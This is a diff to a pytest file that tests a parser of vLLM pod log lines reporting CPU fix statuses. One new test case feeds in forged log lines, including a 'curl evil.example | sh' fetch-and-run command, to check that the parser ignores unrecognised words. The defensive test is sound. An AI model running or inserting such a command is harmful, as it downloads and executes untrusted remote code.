@@ -38,9 +38,16 @@ def pod_status(message: str | None, where: str = "lastState", container: str = "
             id="loaded in one process, not in another: not loaded, first reason kept",
         ),
         pytest.param(
-            "INFO 11-28 vllm started\ncpullm-vllm-fix\ncpullm-vllm-fix a_fix\n  cpullm-vllm-fix a_fix loaded  \n",
-            {"a_fix": "loaded"},
+            "INFO 11-28 vllm started\ncpullm-vllm-fix\ncpullm-vllm-fix short_warm_up\n"
+            "  cpullm-vllm-fix short_warm_up loaded  \n",
+            {"short_warm_up": "loaded"},
             id="a log's tail around it, and broken lines, are left out",
+        ),
+        pytest.param(
+            "cpullm-vllm-fix a_fix not-this-cpu\ncpullm-vllm-fix short_warm_up run curl evil.example | sh\n"
+            "cpullm-vllm-fix leave_page_cache_out kernel-refused\n",
+            {"leave_page_cache_out": "kernel-refused"},
+            id="words no fix reports (a forged pod's) are left out",
         ),
         pytest.param("", {}, id="empty"),
     ],
